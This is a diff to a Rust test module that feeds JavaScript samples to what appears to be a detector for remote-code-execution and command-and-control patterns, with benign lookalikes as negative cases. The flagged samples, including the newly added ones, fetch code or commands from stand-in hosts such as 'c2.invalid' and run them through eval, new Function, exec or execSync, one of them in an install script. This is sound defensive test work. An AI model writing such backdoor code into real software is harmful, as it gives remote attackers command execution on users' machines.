@@ -74,10 +74,13 @@ mod tests {
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const code = await r.text(); new Function(code)(); }"),
                 Case::Js("app.get('/', function (req, res) { res.send('ok ' + eval(req.query.q)); });"),
                 Case::Js("const { exec } = require('child_process');\nrequire('https').get('https://x.invalid/cmd', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => exec(d)); });"),
+                Case::Js("const io = require('socket.io-client');\nconst { exec } = require('child_process');\nconst socket = io('http://c2.invalid');\nsocket.on('exec', (command, cb) => exec(command, (e, out) => cb(out)));"),
+                Case::Js("const WebSocket = require('ws');\nconst ws = new WebSocket('ws://127.0.0.1:9');\nws.on('message', (m) => require('child_process').execSync(m.toString()));"),
                 Case::InstallJs("const { exec } = require('child_process');\nrequire('https').get('https://resolver.invalid/resolve?name=c2.invalid&type=TXT', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => exec(JSON.parse(Buffer.concat(parts).toString()).Answer[0].data));\n});"),
             ],
             &[
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const j = await r.json(); console.log(j); }"),
+                Case::Js("const io = require('socket.io-client');\nconst socket = io('http://127.0.0.1:3000');\nsocket.on('message', (m) => console.log(m));\nrequire('child_process').execFile('git', ['status']);"),
                 Case::Js("const { execFile } = require('child_process');\nconst lines = [];\nrequire('https').get('https://x.invalid/v', (res) => { res.on('data', (c) => lines.push(c)); res.on('end', () => execFile('git', ['tag', Buffer.concat(lines).toString().trim()])); });"),
                 Case::Js("app.get('/', (req, res) => { res.json({ q: req.query.q }); });"),
                 Case::Js("const code = fs.readFileSync('tpl.js', 'utf8'); const fn = new Function('x', 'return x');"),
